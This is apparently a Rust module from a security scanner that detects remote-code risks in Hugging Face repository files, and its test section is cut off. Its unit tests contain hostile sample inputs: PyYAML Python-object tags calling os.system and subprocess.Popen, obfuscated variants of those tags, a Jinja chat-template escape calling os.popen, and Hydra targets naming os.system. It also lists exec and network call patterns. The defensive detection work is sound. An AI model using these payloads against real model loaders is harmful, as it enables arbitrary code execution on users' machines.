//! Hugging Face repository files: what `trust_remote_code=True` would import, chat templates
//! embedded in configs, PyYAML Python tags and Hydra `_target_` instantiation.
//!
//! Everything is recognised by content (keys, tags), never by file name:
//!
//! - [`check_json`]: `auto_map` (including cross-repository `owner/repo--module.Class`),
//!   `custom_pipelines`, diffusers `model_index.json` components and custom pipelines,
//!   sentence-transformers `modules.json` module types, `chat_template` (a string or a list of
//!   `{name, template}`) through [`crate::template::analyse`], and every Hydra `_target_`.
//! - [`check_yaml_text`]: `!!python/object|object/apply|object/new|name|module` tags (what
//!   `yaml.unsafe_load` executes) and Hydra `_target_` values, by a line scan.
//! - [`check_python_source`]: a `*.py` file that remote code would run: reported as such, with
//!   the cheap-to-see dangerous calls and their line numbers.
//!
//! Hydra targets are returned, not judged: the caller applies the global-name policy to them.

use crate::json::{self, Node, Options, Value, clip};
use crate::template;
use modelward_diagnostics::Fact;

/// Largest JSON document read (tokenizer.json files reach tens of MiB).
pub const MAX_JSON: usize = 64 << 20;
/// Largest YAML or Python text scanned.
pub const MAX_TEXT: usize = 16 << 20;
/// Deepest JSON nesting read.
pub const MAX_JSON_DEPTH: usize = 64;
/// Most JSON values read (a 250k-token tokenizer.json has about a million).
pub const MAX_JSON_VALUES: usize = 1 << 22;
/// Facts of one rule reported per file before the rest are summarised in one more fact.
pub const MAX_REPORTED: usize = 32;
/// Characters of source shown in evidence.
const EVIDENCE_CHARS: usize = 160;

/// What a JSON or YAML check found.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct HfReport {
    /// Findings.
    pub facts: Vec<Fact>,
    /// Every Hydra `_target_` value with its byte offset, for the global-name policy.
    pub targets: Vec<(String, u64)>,
}

/// Libraries diffusers imports pipeline components from without remote code.
const DIFFUSERS_LIBRARIES: &[&str] = &[
    "diffusers",
    "transformers",
    "onnxruntime",
    "peft",
    "tokenizers",
    "sentencepiece",
    "k_diffusion",
    "torch",
    "open_clip",
    "timm",
    // diffusers.pipelines submodules named as libraries (Stable Diffusion's safety checker).
    "stable_diffusion",
    "stable_diffusion_safe",
    "stable_diffusion_xl",
    "stable_diffusion_3",
    "deepfloyd_if",
    "kandinsky",
    "kandinsky2_2",
    "kandinsky3",
    "alt_diffusion",
    "latent_diffusion",
    "paint_by_example",
    "versatile_diffusion",
    "unclip",
    "wuerstchen",
    "stable_cascade",
    "audioldm2",
    "musicldm",
    "shap_e",
    "blip_diffusion",
    "controlnet",
    "i2vgen_xl",
    "animatediff",
    "pixart_alpha",
    "flux",
];

/// Checks a Hugging Face JSON file (config, tokenizer config, model index, modules list, ...).
/// Text that is not JSON gives an empty report.
pub fn check_json(text: &str) -> HfReport {
    check_json_capped(text, MAX_REPORTED)
}

/// [`check_json`] with at most `cap` facts per rule (the scanner passes `max-findings-per-rule`).
pub fn check_json_capped(text: &str, cap: usize) -> HfReport {
    let mut out = Out::new(cap);
    if text.len() > MAX_JSON {
        return out.finish();
    }
    let Ok(parsed) = json::parse(
        text,
        Options {
            max_depth: MAX_JSON_DEPTH,
            python: true,
            max_values: MAX_JSON_VALUES,
        },
    ) else {
        return out.finish();
    };
    let root = &parsed.root;
    walk_json(text, root, &mut out, 0);
    if let Some(members) = root.as_object() {
        for m in members {
            match m.key.as_ref() {
                "chat_template" => chat_templates(text, &m.value, &mut out),
                "custom_pipelines" => custom_pipelines(text, &m.value, &mut out),
                _ => {}
            }
        }
        if root.get("_diffusers_version").is_some() || root.get("_class_name").is_some() {
            model_index(text, root, &mut out);
        }
    }
    if let Some(items) = root.as_array() {
        sentence_transformer_modules(text, items, &mut out);
    }
    out.finish()
}

/// `auto_map` and `_target_` wherever they are.
fn walk_json(text: &str, node: &Node<'_>, out: &mut Out, depth: usize) {
    if depth > MAX_JSON_DEPTH {
        return;
    }
    match &node.value {
        Value::Obj(members) => {
            for m in members {
                match (m.key.as_ref(), &m.value.value) {
                    ("auto_map", Value::Obj(entries)) => {
                        for e in entries {
                            auto_map_entry(text, &e.key, &e.value, out);
                        }
                    }
                    ("_target_", Value::Str(s)) => out.targets.push((s.to_string(), m.value.at as u64)),
                    _ => {}
                }
                walk_json(text, &m.value, out, depth + 1);
            }
        }
        Value::Arr(items) => {
            for i in items {
                walk_json(text, i, out, depth + 1);
            }
        }
        _ => {}
    }
}

/// One `auto_map` entry: `"AutoModel": "modeling_x.Model"`, or a list (tokenizers: slow and
/// fast class, either may be null).
fn auto_map_entry(text: &str, auto_class: &str, value: &Node<'_>, out: &mut Out) {
    let refs: Vec<&Node<'_>> = match &value.value {
        Value::Str(_) => vec![value],
        Value::Arr(items) => items.iter().filter(|i| i.as_str().is_some()).collect(),
        _ => Vec::new(),
    };
    for r in refs {
        let Some(reference) = r.as_str() else { continue };
        let evidence = format!(
            "{:?}: {}",
            clip(auto_class, 60),
            clip(&text[r.at..r.end], EVIDENCE_CHARS)
        );
        let (repo, local) = match reference.split_once("--") {
            Some((repo, local)) => (Some(repo), local),
            None => (None, reference),
        };
        let (module, class) = local.rsplit_once('.').unwrap_or((local, ""));
        let file = format!("{}.py", module.replace('.', "/"));
        let fact = match repo {
            Some(repo) => Fact::new(
                "HFR102",
                format!(
                    "auto_map {auto_class} loads {class} from {file} in another repository, {repo:?}, under trust_remote_code=True",
                    auto_class = clip(auto_class, 60),
                    class = clip(class, 80),
                    file = clip(&file, 120),
                    repo = clip(repo, 120),
                ),
            ),
            None => Fact::new(
                "HFR101",
                format!(
                    "auto_map {} makes trust_remote_code=True import {} and use its class {}",
                    clip(auto_class, 60),
                    clip(&file, 120),
                    clip(class, 80)
                ),
            ),
        };
        out.push(fact.at(r.at as u64).evidence(evidence));
    }
}

/// transformers `custom_pipelines`: `{task: {"impl": "module.Class", "pt": [...], ...}}`.
fn custom_pipelines(text: &str, value: &Node<'_>, out: &mut Out) {
    let Some(tasks) = value.as_object() else { return };
    for t in tasks {
        let implementation = t.value.get("impl").and_then(Node::as_str).unwrap_or("?");
        out.push(
            Fact::new(
                "HFR103",
                format!(
                    "custom_pipelines task {:?} runs {} from the repository under trust_remote_code=True",
                    clip(&t.key, 60),
                    clip(implementation, 120)
                ),
            )
            .at(t.key_at as u64)
            .evidence(clip(&text[t.value.at..t.value.end], EVIDENCE_CHARS)),
        );
    }
}

/// diffusers `model_index.json`: `"component": [library, class]`; `_class_name` as a
/// `[module, class]` pair names a custom pipeline.
fn model_index(text: &str, root: &Node<'_>, out: &mut Out) {
    let Some(members) = root.as_object() else { return };
    // A pipeline index, not a component's own config (which also has `_class_name`).
    let pipeline = match root.get("_class_name").map(|n| &n.value) {
        Some(Value::Str(s)) => s.ends_with("Pipeline"),
        Some(Value::Arr(_)) => true,
        _ => false,
    } || members
        .iter()
        .any(|m| library_pair(&m.value).is_some_and(|(lib, _)| lib == "diffusers" || lib == "transformers"));
    if !pipeline {
        return;
    }
    for m in members {
        let Some((lib, class)) = library_pair(&m.value) else {
            continue;
        };
        let evidence = format!(
            "{:?}: {}",
            clip(&m.key, 60),
            clip(&text[m.value.at..m.value.end], EVIDENCE_CHARS)
        );
        if m.key == "_class_name" {
            out.push(
                Fact::new(
                    "HFR103",
                    format!(
                        "the diffusers pipeline class {} comes from the repository's {}.py (a custom pipeline: remote code)",
                        clip(class, 80),
                        clip(lib, 80)
                    ),
                )
                .at(m.key_at as u64)
                .evidence(evidence),
            );
        } else if !m.key.starts_with('_') && !DIFFUSERS_LIBRARIES.contains(&lib) {
            out.push(
                Fact::new(
                    "HFR104",
                    format!(
                        "the diffusers component {:?} is {} from {:?}, not a known library: a module in the repository (remote code) or an arbitrary import",
                        clip(&m.key, 60),
                        clip(class, 80),
                        clip(lib, 80)
                    ),
                )
                .at(m.key_at as u64)
                .evidence(evidence),
            );
        }
    }
}

/// `[library, Class]`: a module-like name and a class-like name.
fn library_pair<'n>(node: &'n Node<'_>) -> Option<(&'n str, &'n str)> {
    let [lib, class] = node.as_array()? else {
        return None;
    };
    let (lib, class) = (lib.as_str()?, class.as_str()?);
    let module_like = lib
        .chars()
        .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '.')
        && !lib.is_empty();
    let class_like = class.chars().next().is_some_and(|c| c.is_ascii_uppercase());
    (module_like && class_like).then_some((lib, class))
}

/// sentence-transformers `modules.json`: `[{"idx", "name", "path", "type"}]`; `type` is
/// imported by name.
fn sentence_transformer_modules(text: &str, items: &[Node<'_>], out: &mut Out) {
    let is_modules = !items.is_empty()
        && items
            .iter()
            .all(|i| i.get("type").and_then(Node::as_str).is_some() && i.get("path").is_some());
    if !is_modules {
        return;
    }
    for i in items {
        let Some(ty_node) = i.get("type") else { continue };
        let Some(ty) = ty_node.as_str() else { continue };
        if ty.starts_with("sentence_transformers.") {
            continue;
        }
        out.push(
            Fact::new(
                "HFR104",
                format!(
                    "the sentence-transformers module type {} is imported by name from outside sentence_transformers",
                    clip(ty, 120)
                ),
            )
            .at(ty_node.at as u64)
            .evidence(clip(&text[i.at..i.end], EVIDENCE_CHARS)),
        );
    }
}

/// `chat_template`: a string, or a list of `{"name": ..., "template": ...}`.
fn chat_templates(text: &str, value: &Node<'_>, out: &mut Out) {
    let mut found: Vec<(String, &Node<'_>)> = Vec::new();
    match &value.value {
        Value::Str(_) => found.push(("default".to_owned(), value)),
        Value::Arr(items) => {
            for (n, item) in items.iter().enumerate() {
                let name = item
                    .get("name")
                    .and_then(Node::as_str)
                    .map_or_else(|| format!("#{n}"), str::to_owned);
                if let Some(t) = item.get("template").filter(|t| t.as_str().is_some()) {
                    found.push((name, t));
                }
            }
        }
        _ => {}
    }
    for (name, node) in found {
        let Some(tpl) = node.as_str() else { continue };
        for mut f in template::analyse(tpl) {
            f.message = format!("{} (chat_template {:?})", f.message, clip(&name, 60));
            f.offset = f
                .offset
                .map(|o| json::raw_offset(text, node.at, o as usize) as u64);
            out.push(f);
        }
    }
}

/// PyYAML tags that construct or call Python objects (`yaml.unsafe_load`, old `yaml.load`).
const PYTHON_TAGS: &[&str] = &[
    "python/object/apply:",
    "python/object/new:",
    "python/object:",
    "python/name:",
    "python/module:",
];

/// Checks YAML text (line-based): Python tags, and Hydra `_target_` values.
pub fn check_yaml_text(text: &str) -> HfReport {
    check_yaml_text_capped(text, MAX_REPORTED)
}

/// [`check_yaml_text`] with at most `cap` facts per rule (the scanner passes `max-findings-per-rule`).
pub fn check_yaml_text_capped(text: &str, cap: usize) -> HfReport {
    let mut out = Out::new(cap);
    if text.len() > MAX_TEXT {
        return out.finish();
    }
    let directives = tag_directives(text);
    let mut offset = 0usize;
    for (n, line) in text.split_inclusive('\n').enumerate() {
        let line_at = offset;
        offset += line.len();
        let code = strip_yaml_comment(line);
        yaml_tags(code, line_at, n + 1, &directives, &mut out);
        yaml_targets(code, line_at, &mut out);
    }
    out.finish()
}

/// The line without a trailing `# comment` (a `#` at the start or after whitespace, outside
/// quotes).
fn strip_yaml_comment(line: &str) -> &str {
    let (mut single, mut double) = (false, false);
    let mut prev_space = true;
    for (i, c) in line.char_indices() {
        match c {
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '#' if !single && !double && prev_space => return &line[..i],
            _ => {}
        }
        prev_space = c.is_whitespace();
    }
    line
}

fn in_quotes(code: &str, at: usize) -> bool {
    let before = &code[..at];
    before.matches('"').count() % 2 == 1 || before.matches('\'').count() % 2 == 1
}

/// PyYAML's standard tag prefix; `!!x` is `tag:yaml.org,2002:x` unless a `%TAG !!` says otherwise.
const YAML_CORE: &str = "tag:yaml.org,2002:";

/// Decodes `%XX` escapes the way PyYAML's `scan_uri_escapes` does (invalid escapes are kept).
fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && let (Some(h), Some(l)) = (
                b.get(i + 1).and_then(|c| (*c as char).to_digit(16)),
                b.get(i + 2).and_then(|c| (*c as char).to_digit(16)),
            )
        {
            out.push((h * 16 + l) as u8);
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// `%TAG` directives of the document: handle -> prefix (decoded).
fn tag_directives(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for line in text.lines().take(100_000) {
        let mut parts = line.split_whitespace();
        if parts.next() == Some("%TAG")
            && let (Some(handle), Some(prefix)) = (parts.next(), parts.next())
            && out.len() < 64
        {
            out.push((handle.to_owned(), percent_decode(prefix)));
        }
    }
    out
}

/// Resolves a tag token (`!!python/%6Fbject/apply:os.system`, `!<tag:...>`, `!p!object/...`) to
/// the full tag PyYAML would construct with.
fn resolve_tag(token: &str, directives: &[(String, String)]) -> Option<String> {
    if let Some(v) = token.strip_prefix("!<") {
        return Some(percent_decode(v.split('>').next().unwrap_or(v)));
    }
    let rest = &token[1..];
    let (handle, suffix) = match rest.find('!') {
        Some(i) => (&token[..i + 2], &rest[i + 1..]),
        None => ("!", rest),
    };
    let prefix = directives
        .iter()
        .rev()
        .find(|(h, _)| h == handle)
        .map(|(_, p)| p.as_str())
        .or(match handle {
            "!!" => Some(YAML_CORE),
            "!" => Some("!"),
            _ => None,
        })?;
    Some(format!("{prefix}{}", percent_decode(suffix)))
}

fn yaml_tags(code: &str, line_at: usize, line_no: usize, directives: &[(String, String)], out: &mut Out) {
    if code.trim_start().starts_with("%TAG") {
        let d = tag_directives(code);
        if d.iter()
            .any(|(_, p)| p.starts_with(&format!("{YAML_CORE}python/")))
        {
            out.push(
                Fact::new(
                    "HFR105",
                    format!("line {line_no}: a %TAG directive maps a handle to PyYAML's Python tags"),
                )
                .at(line_at as u64)
                .evidence(clip(code.trim_end(), EVIDENCE_CHARS)),
            );
        }
        return;
    }
    let bytes = code.as_bytes();
    for (at, _) in code.match_indices('!') {
        // A tag starts a node: at the line start or after whitespace or a flow indicator.
        let starts_node = at == 0 || matches!(bytes[at - 1], b' ' | b'\t' | b'[' | b'{' | b',');
        if !starts_node || in_quotes(code, at) {
            continue;
        }
        let token: String = if code[at..].starts_with("!<") {
            code[at..]
                .chars()
                .take_while(|c| *c != '>')
                .chain(">".chars())
                .collect()
        } else {
            code[at..]
                .chars()
                .take_while(|c| !c.is_whitespace() && !matches!(c, ',' | ']' | '}' | '\'' | '"'))
                .collect()
        };
        let Some(tag) = resolve_tag(&token, directives) else {
            continue;
        };
        let Some(python) = tag
            .strip_prefix(YAML_CORE)
            .and_then(|t| t.strip_prefix("python/"))
        else {
            continue;
        };
        let python = format!("python/{python}");
        let Some(kind) = PYTHON_TAGS.iter().find(|t| python.starts_with(**t)) else {
            continue;
        };
        let target = &python[kind.len()..];
        let written = if token.starts_with("!!") && tag == format!("{YAML_CORE}{}", &token[2..]) {
            String::new()
        } else {
            format!(" (written {})", clip(&token, 120))
        };
        out.push(
            Fact::new(
                "HFR105",
                format!(
                    "line {line_no}: the PyYAML tag !!{}{}{written} constructs Python objects when the file is loaded unsafely",
                    kind,
                    clip(target, 120)
                ),
            )
            .at((line_at + at) as u64)
            .evidence(clip(code.trim(), EVIDENCE_CHARS)),
        );
    }
}

fn yaml_targets(code: &str, line_at: usize, out: &mut Out) {
    let mut from = 0;
    while let Some(i) = code[from..].find("_target_") {
        let at = from + i;
        from = at + "_target_".len();
        // A key: optionally quoted, then a colon.
        let before = code[..at].trim_end_matches(['"', '\'']);
        if !(before.is_empty() || before.ends_with([' ', '\t', '{', ',', '-'])) {
            continue;
        }
        let after = code[from..].trim_start_matches(['"', '\'']);
        let Some(value) = after.trim_start().strip_prefix(':') else {
            continue;
        };
        let trimmed = value.trim_start();
        let value_at = line_at + code.len() - trimmed.len();
        let raw: &str = trimmed.split([',', '}', '\n', '\r']).next().unwrap_or("").trim();
        let target = raw.trim_matches(['"', '\'']).trim();
        if !target.is_empty() {
            out.targets.push((target.to_owned(), value_at as u64));
        }
    }
}

/// Calls that run code or programs (matched where they are not the tail of a longer name).
const EXEC_PATTERNS: &[&str] = &[
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "os.posix_spawn",
    "subprocess",
    "pty.spawn",
    "eval(",
    "exec(",
    "compile(",
    "__import__(",
    "ctypes",
    "marshal.loads",
    "runpy",
];

/// Network access and second-stage loaders.
const NETWORK_PATTERNS: &[&str] = &[
    "socket.",
    "import socket",
    "requests.",
    "urllib",
    "http.client",
    "httpx.",
    "pickle.load",
    "dill.load",
    "joblib.load(",
    "cloudpickle.load",
];

/// Checks a Python file that `trust_remote_code=True` would import.
pub fn check_python_source(text: &str) -> Vec<Fact> {
    check_python_source_capped(text, MAX_REPORTED)
}

/// [`check_python_source`] with at most `cap` facts per rule (the scanner passes `max-findings-per-rule`).
pub fn check_python_source_capped(text: &str, cap: usize) -> Vec<Fact> {
    let mut out = Out::new(cap);
    let lines = text.lines().count();
    out.push(
        Fact::new(
            "HFR106",
            format!("Python source ({lines} lines) that trust_remote_code=True would import and run"),
        )
        .at(0),
    );
    if text.len() > MAX_TEXT {
        return out.finish().facts;
    }
    let mut in_docstring: Option<&'static str> = None;
    let mut offset = 0usize;
    let mut b64_line = None;
    let mut exec_line = None;
    let all: Vec<&str> = text.split_inclusive('\n').collect();
    for (n, raw_line) in all.iter().enumerate() {
        let line_at = offset;
        offset += raw_line.len();
        let line = raw_line.trim_end_matches(['\n', '\r']);
        let code = python_code_part(line, &mut in_docstring);
        if code.trim().is_empty() {
            continue;
        }
        let evidence = || format!("line {}: {}", n + 1, clip(line.trim(), EVIDENCE_CHARS));
        for p in EXEC_PATTERNS {
            if let Some(i) = find_word(&code, p) {
                if *p == "eval(" || *p == "exec(" {
                    exec_line.get_or_insert(n + 1);
                }
                out.push(
                    Fact::new(
                        "HFR107",
                        format!("line {}: remote code calls {}", n + 1, p.trim_end_matches('(')),
                    )
                    .at((line_at + i) as u64)
                    .evidence(evidence()),
                );
                break;
            }
        }
        for p in NETWORK_PATTERNS {
            if let Some(i) = find_word(&code, p) {
                out.push(
                    Fact::new(
                        "HFR108",
                        format!(
                            "line {}: remote code uses {}",
                            n + 1,
                            p.trim_end_matches(['(', '.'])
                        ),
                    )
                    .at((line_at + i) as u64)
                    .evidence(evidence()),
                );
                break;
            }
        }
        if let Some(i) = find_word(&code, "torch.load(") {
            // weights_only=True on this line or the next few (a wrapped call).
            let window: String = all[n..all.len().min(n + 4)].concat();
            if !window.replace(' ', "").contains("weights_only=True") {
                out.push(
                    Fact::new(
                        "HFR108",
                        format!(
                            "line {}: remote code calls torch.load without weights_only=True",
                            n + 1
                        ),
                    )
                    .at((line_at + i) as u64)
                    .evidence(evidence()),
                );
            }
        }
        if code.contains("b64decode") || code.contains("a85decode") {
            b64_line.get_or_insert(n + 1);
        }
    }
    if let (Some(b), Some(e)) = (b64_line, exec_line) {
        out.push(
            Fact::new(
                "HFR107",
                format!("remote code decodes base64 (line {b}) and calls eval/exec (line {e}): a hidden payload shape"),
            )
            .at(0)
            .evidence(format!("lines {b} and {e}")),
        );
    }
    out.finish().facts
}

/// The code part of a line: without docstring text (tracked across lines) and `#` comments.
fn python_code_part(line: &str, in_docstring: &mut Option<&'static str>) -> String {
    let mut code = String::new();
    let mut rest = line;
    loop {
        if let Some(q) = *in_docstring {
            match rest.find(q) {
                Some(i) => {
                    rest = &rest[i + 3..];
                    *in_docstring = None;
                }
                None => return code,
            }
        }
        let triple = [("\"\"\"", "\"\"\""), ("'''", "'''")]
            .iter()
            .filter_map(|(pat, q)| rest.find(pat).map(|i| (i, *q)))
            .min();
        let hash = hash_outside_strings(rest);
        match (triple, hash) {
            (Some((i, _)), Some(h)) if h < i => {
                code.push_str(&rest[..h]);
                return code;
            }
            (Some((i, q)), _) => {
                code.push_str(&rest[..i]);
                rest = &rest[i + 3..];
                *in_docstring = Some(q);
            }
            (None, Some(h)) => {
                code.push_str(&rest[..h]);
                return code;
            }
            (None, None) => {
                code.push_str(rest);
                return code;
            }
        }
    }
}

fn hash_outside_strings(s: &str) -> Option<usize> {
    let (mut single, mut double) = (false, false);
    let mut escaped = false;
    for (i, c) in s.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '#' if !single && !double => return Some(i),
            _ => {}
        }
    }
    None
}

/// `pattern` in `code` where it is not the tail of a longer name (`model.eval(`,
/// `literal_eval(`, `re.compile(` do not match `eval(`/`compile(`).
fn find_word(code: &str, pattern: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(i) = code[from..].find(pattern) {
        let at = from + i;
        let before = code[..at].chars().next_back();
        if !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.') {
            return Some(at);
        }
        from = at + pattern.len();
    }
    None
}

/// Facts (capped per rule by the one collector), and the targets.
struct Out {
    facts: modelward_diagnostics::FactCollector,
    targets: Vec<(String, u64)>,
}

impl Out {
    fn new(cap: usize) -> Out {
        Out {
            facts: modelward_diagnostics::FactCollector::new(cap),
            targets: Vec::new(),
        }
    }

    fn push(&mut self, fact: Fact) {
        self.facts.push(fact);
    }

    fn finish(self) -> HfReport {
        HfReport {
            facts: self.facts.finish(),
            targets: self.targets,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(facts: &[Fact]) -> Vec<&'static str> {
        facts.iter().map(|f| f.rule).collect()
    }

    #[test]
    fn hfr101_auto_map_local() {
        let cfg = r#"{"architectures": ["MyModel"], "auto_map": {"AutoConfig": "configuration_my.MyConfig", "AutoModelForCausalLM": "modeling_my.MyModel"}}"#;
        let r = check_json(cfg);
        assert_eq!(rules(&r.facts), ["HFR101", "HFR101"]);
        assert!(r.facts[1].message.contains("modeling_my.py"), "{:?}", r.facts[1]);
        assert_eq!(&cfg[r.facts[1].offset.unwrap() as usize..][..12], "\"modeling_my");
        let tok = r#"{"auto_map": {"AutoTokenizer": ["tokenization_my.MyTokenizer", null]}}"#;
        assert_eq!(rules(&check_json(tok).facts), ["HFR101"]);
        let plain = r#"{"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 384}"#;
        assert_eq!(check_json(plain), HfReport::default());
    }

    #[test]
    fn hfr102_cross_repo() {
        let cfg = r#"{"auto_map": {"AutoModel": "someone/other-repo--modeling_x.XModel"}}"#;
        let r = check_json(cfg);
        assert_eq!(rules(&r.facts), ["HFR102"]);
        assert!(r.facts[0].message.contains("someone/other-repo"));
        assert!(r.facts[0].message.contains("modeling_x.py"));
        let cfg = r#"{"auto_map": {"AutoModel": "modeling_x.XModel"}}"#;
        assert_eq!(rules(&check_json(cfg).facts), ["HFR101"]);
    }

    #[test]
    fn hfr103_custom_pipelines() {
        let cfg =
            r#"{"custom_pipelines": {"my-task": {"impl": "my_pipeline.MyPipeline", "pt": ["AutoModel"]}}}"#;
        assert_eq!(rules(&check_json(cfg).facts), ["HFR103"]);
        let idx = r#"{"_class_name": ["pipeline_my", "MyPipeline"], "_diffusers_version": "0.30.0", "unet": ["diffusers", "UNet2DConditionModel"]}"#;
        assert_eq!(rules(&check_json(idx).facts), ["HFR103"]);
        let idx = r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6.0", "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "text_encoder": ["transformers", "CLIPTextModel"], "feature_extractor": [null, null]}"#;
        assert_eq!(check_json(idx), HfReport::default());
    }

    #[test]
    fn hfr104_custom_components() {
        let idx = r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["my_unet", "MyUNet"]}"#;
        assert_eq!(rules(&check_json(idx).facts), ["HFR104"]);
        // A component's own config is not a pipeline index.
        let unet = r#"{"_class_name": "UNet2DConditionModel", "_diffusers_version": "0.30.0", "down_block_types": ["CrossAttnDownBlock2D", "DownBlock2D"], "act": ["silu", "Gelu"]}"#;
        assert_eq!(check_json(unet), HfReport::default());
        let modules = r#"[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Custom", "type": "custom_module.MyPooling"}]"#;
        let r = check_json(modules);
        assert_eq!(rules(&r.facts), ["HFR104"]);
        assert!(r.facts[0].message.contains("custom_module.MyPooling"));
        let modules =
            r#"[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]"#;
        assert_eq!(check_json(modules), HfReport::default());
    }

    #[test]
    fn chat_templates_in_tokenizer_configs() {
        let cfg =
            r#"{"bos_token": "<s>", "chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}"#;
        assert_eq!(check_json(cfg), HfReport::default());
        let cfg = r#"{"chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}"#;
        let r = check_json(cfg);
        assert_eq!(rules(&r.facts), ["TPL101"]);
        let at = r.facts[0].offset.unwrap() as usize;
        assert!(cfg[at..].starts_with("cycler.__init__"), "{}", &cfg[at..]);
        let cfg = r#"{"chat_template": [{"name": "default", "template": "{{ x }}"}, {"name": "tool_use", "template": "{{ ''.__class__ }}"}]}"#;
        let r = check_json(cfg);
        assert_eq!(rules(&r.facts), ["TPL101"]);
        assert!(r.facts[0].message.contains("tool_use"));
    }

    #[test]
    fn hydra_targets_in_json_and_yaml() {
        let cfg = r#"{"model": {"_target_": "nemo.collections.asr.models.EncDecCTCModel", "encoder": {"_target_": "os.system", "_args_": ["id"]}}}"#;
        let r = check_json(cfg);
        assert!(r.facts.is_empty());
        let names: Vec<&str> = r.targets.iter().map(|t| t.0.as_str()).collect();
        assert_eq!(names, ["nemo.collections.asr.models.EncDecCTCModel", "os.system"]);
        assert!(cfg[r.targets[1].1 as usize..].starts_with("\"os.system\""));
        let yaml = "model:\n  _target_: builtins.eval  # comment\n  args:\n    - {_target_: 'os.system', cmd: id}\n  \"_target_\": \"x.y\"\n  my_target_: no\n";
        let r = check_yaml_text(yaml);
        let names: Vec<&str> = r.targets.iter().map(|t| t.0.as_str()).collect();
        assert_eq!(names, ["builtins.eval", "os.system", "x.y"]);
        assert!(yaml[r.targets[0].1 as usize..].starts_with("builtins.eval"));
        assert!(r.facts.is_empty());
    }

    #[test]
    fn hfr105_yaml_python_tags() {
        for y in [
            "a: !!python/object/apply:os.system ['id']\n",
            "a: !!python/object/new:subprocess.Popen [['id']]\n",
            "a: !!python/name:builtins.eval\n",
            "a: !!python/module:os\n",
            "- !!python/object:__main__.Evil {x: 1}\n",
            "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n",
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['id']\n",
        ] {
            let r = check_yaml_text(y);
            // A %TAG directive is reported on its own line and on each tag that uses it.
            assert!(
                !r.facts.is_empty() && rules(&r.facts).iter().all(|c| *c == "HFR105"),
                "{y}"
            );
            assert!(r.facts.iter().any(|f| f.message.contains("!!python/")), "{y}");
        }
        let f = &check_yaml_text("x: 1\na: !!python/object/apply:os.system ['id']\n").facts[0];
        assert!(f.message.contains("os.system") && f.message.starts_with("line 2"));
        assert_eq!(f.offset, Some(8));
        for y in [
            "a: !!python/tuple [1, 2]\n",
            "# a: !!python/object/apply:os.system\n",
            "a: \"!!python/object/apply:os.system\"\n",
            "lr: 0.001\nname: resnet\n",
        ] {
            assert_eq!(check_yaml_text(y), HfReport::default(), "{y}");
        }
    }

    #[test]
    fn yaml_tags_are_decoded_the_way_pyyaml_resolves_them() {
        for (text, name) in [
            ("a: !!python/%6Fbject/apply:os.system ['id']\n", "os.system"),
            ("a: !!python/object/apply:%6Fs.system ['id']\n", "os.system"),
            (
                "a: !<tag:yaml.org,2002:python/%6Fbject/apply:os.system> ['id']\n",
                "os.system",
            ),
            (
                "%TAG !y! tag:yaml.org,2002:\n---\na: !y!python/object/apply:os.system ['id']\n",
                "os.system",
            ),
            (
                "%TAG !! tag:yaml.org,2002:%70ython/\n---\na: !!object/new:subprocess.Popen [['id']]\n",
                "subprocess.Popen",
            ),
            (
                "%TAG ! tag:yaml.org,2002:python/\n---\na: !name:builtins.eval\n",
                "builtins.eval",
            ),
            ("- [1, !!python/name:builtins.exec ]\n", "builtins.exec"),
        ] {
            let facts = check_yaml_text(text).facts;
            assert!(
                facts
                    .iter()
                    .any(|f| f.rule == "HFR105" && f.message.contains(name)),
                "{text:?}: {facts:?}"
            );
        }
        // Look-alikes: a local tag, a %-escape of something harmless, a quoted or commented tag,
        // a handle that maps elsewhere.
        for text in [
            "a: !python/object/apply:os.system ['id']\n",
            "a: !!python/%74uple [1, 2]\n",
            "a: '!!python/%6Fbject/apply:os.system'\n",
            "# a: !<tag:yaml.org,2002:python/object/apply:os.system>\n",
            "%TAG !y! tag:example.com,2000:\n---\na: !y!python/object/apply:os.system ['id']\n",
            "title: Wow !!! great\n",
        ] {
            assert!(check_yaml_text(text).facts.is_empty(), "{text:?}");
        }
    }

    #[test]
    fn json_escapes_are_decoded_before_matching() {
        let r = check_json(
            r#"{"auto_m\u0061p": {"AutoModel": "modeling_x.M"}, "a": {"_t\u0061rget_": "o\u0073.system"}}"#,
        );
        assert!(r.facts.iter().any(|f| f.rule == "HFR101"), "{:?}", r.facts);
        assert_eq!(r.targets.first().map(|t| t.0.as_str()), Some("os.system"));
        // Any config a loader reads (processor, image and video preprocessors), nested too.
        let pre = r#"{"processor": {"auto_map": {"AutoImageProcessor": "image_processing_x.P",
            "AutoVideoProcessor": ["video_processing_x.V", null]}}}"#;
        let r = check_json(pre);
        assert_eq!(rules(&r.facts), ["HFR101", "HFR101"], "{:?}", r.facts);
        assert!(r.facts[1].message.contains("video_processing_x.py"));
        let r = check_json(r#"{"automap": {"AutoModel": "modeling_x.M"}, "_target": "os.system"}"#);
        assert!(r.facts.is_empty() && r.targets.is_empty());
    }

    #[test]
    fn hfr106_to_108_python_source() {
